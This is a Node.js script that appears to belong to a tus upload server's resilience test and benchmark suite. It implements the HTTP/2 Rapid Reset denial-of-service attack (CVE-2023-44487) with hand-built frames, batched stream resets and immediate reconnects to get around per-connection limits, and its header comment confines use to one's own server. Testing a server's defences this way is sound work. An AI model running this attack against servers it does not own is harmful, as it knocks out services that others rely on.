#!/usr/bin/env node
// HTTP/2 rapid reset (CVE-2023-44487) against one upload: try it on your own server, never on anyone else's.
//
//   node scripts/rapid-reset.mjs <upload URL> [--clients 4] [--seconds 10] [--batch 100] [--method HEAD]
//                                             [--reset same|later|both]
//
// Each client opens an h2c connection (prior knowledge) and writes batches of `--batch` streams, each a
// HEADERS frame (the request, END_STREAM) and RST_STREAM(CANCEL) for it; it writes the next batch once the
// kernel took the last one. `--reset same` (the default) puts each reset right behind its HEADERS, in one
// packet; `--reset later` sends a batch's resets with the next batch, so that its requests reach the
// server's handlers (and wait for the upload's lock) before they are cancelled; `--reset both`: every
// other client does one, the others the other. A server that sends GOAWAY (nghttp2 does after about
// 1,000 resets on one connection) or closes the connection is reconnected to at once: that is what makes
// the attack work against a per-connection defence. Only h2c, only `http:` URLs.
//
// Stops after `--seconds` or on SIGTERM/SIGINT, then prints one JSON line on stdout: streams sent,
// connections opened, GOAWAY frames by error code, connection errors. It reads what the server sends only
// to acknowledge its SETTINGS and to see GOAWAY. The test and the benchmark spawn it as a child process
// (test/resilience/rapid-reset.slow.test.ts, bench/scenarios/7-hostile.js), so that the attack does not
// share an event loop with what they measure.
import net from 'node:net'
import { parseArgs } from 'node:util'

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    clients: { type: 'string', default: '4' },
    seconds: { type: 'string', default: '10' },
    batch: { type: 'string', default: '100' },
    method: { type: 'string', default: 'HEAD' },
    reset: { type: 'string', default: 'same' },
  },
})
const target = new URL(positionals[0] ?? usage('an upload URL is needed'))
if (target.protocol !== 'http:') usage('only http: (h2c) URLs')
const clients = wholeNumber('clients', values.clients)
const batch = wholeNumber('batch', values.batch)
const seconds = Number(values.seconds)
if (!(seconds > 0)) usage('--seconds must be a positive number')
if (!['same', 'later', 'both'].includes(String(values.reset))) usage('--reset is same, later or both')

/** @param {string} message */
function usage(message) {
  process.stderr.write(`rapid-reset: ${message}\nusage: node scripts/rapid-reset.mjs <upload URL> [--clients 4] [--seconds 10] [--batch 100] [--method HEAD] [--reset same|later|both]\n`)
  process.exit(2)
}

/** @param {string} name @param {string | undefined} text */
function wholeNumber(name, text) {
  const value = Number(text)
  if (!(Number.isInteger(value) && value > 0)) usage(`--${name} must be a whole number > 0`)
  return value
}

// RFC 9113 §4.1, §6: frame types and flags used here.
const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const GOAWAY = 7
const END_STREAM = 0x1
const END_HEADERS = 0x4
const ACK = 0x1
const CANCEL = 8
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')

/** @param {number} type @param {number} flags @param {number} streamId @param {Buffer} [payload] */
function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(streamId, 5)
  return Buffer.concat([head, payload])
}

// RFC 7541 §6.2.2: a literal header field without indexing, new name, no Huffman coding (values < 127 bytes).
/** @param {string} name @param {string} value */
function literal(name, value) {
  const n = Buffer.from(name, 'latin1')
  const v = Buffer.from(value, 'latin1')
  if (n.length > 126 || v.length > 126) usage(`header ${name} is too long for this encoder`)
  return Buffer.concat([Buffer.from([0x00, n.length]), n, Buffer.from([v.length]), v])
}

const block = Buffer.concat([
  literal(':method', values.method),
  literal(':scheme', 'http'),
  literal(':authority', target.host),
  literal(':path', `${target.pathname}${target.search}`),
  literal('tus-resumable', '1.0.0'),
])
const cancel = Buffer.alloc(4)
cancel.writeUInt32BE(CANCEL)

const report = { streams: 0, connections: 0, goaways: /** @type {Record<string, number>} */ ({}), errors: 0 }
let stopping = false

/**
 * One attacking client's connection; opens the next one when the server ends it.
 * @param {boolean} resetLater
 */
function attack(resetLater) {
  if (stopping) return
  report.connections += 1
  const socket = net.connect({ host: target.hostname, port: Number(target.port || 80), noDelay: true })
  let streamId = 1
  let pending = Buffer.alloc(0)
  let over = false
  const end = () => {
    if (over) return
    over = true
    socket.destroy()
    setImmediate(attack, resetLater)
  }
  /** Resets owed for the last batch (`--reset later`). */
  /** @type {Buffer[]} */
  let owed = []
  const send = () => {
    if (over || stopping) return
    const frames = owed
    owed = []
    for (let i = 0; i < batch; i += 1) {
      frames.push(frame(HEADERS, END_HEADERS | END_STREAM, streamId, block))
      ;(resetLater ? owed : frames).push(frame(RST_STREAM, 0, streamId, cancel))
      streamId += 2
    }
    report.streams += batch
    // Stream ids are 31 bits: a connection that ran out of them is replaced.
    if (streamId > 2 ** 31 - 2 * batch) return end()
    socket.write(Buffer.concat(frames), (error) => (error ? end() : send()))
  }
  socket.on('connect', () => {
    socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]))
    send()
  })
  socket.on('data', (chunk) => {
    pending = Buffer.concat([pending, chunk])
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3)
      if (pending.length < 9 + length) break
      const type = pending[3]
      const flags = pending[4] ?? 0
      const payload = pending.subarray(9, 9 + length)
      pending = pending.subarray(9 + length)
      if (type === SETTINGS && (flags & ACK) === 0) socket.write(frame(SETTINGS, ACK, 0))
      if (type === GOAWAY) {
        const code = String(payload.readUInt32BE(4))
        report.goaways[code] = (report.goaways[code] ?? 0) + 1
        return end()
      }
    }
  })
  socket.on('error', () => {
    report.errors += 1
    end()
  })
  socket.on('close', end)
}

const finish = () => {
  if (stopping) return
  stopping = true
  process.stdout.write(`${JSON.stringify(report)}\n`)
  process.exit(0)
}
process.on('SIGTERM', finish)
process.on('SIGINT', finish)
setTimeout(finish, seconds * 1000)
for (let i = 0; i < clients; i += 1) attack(values.reset === 'later' || (values.reset === 'both' && i % 2 === 1))
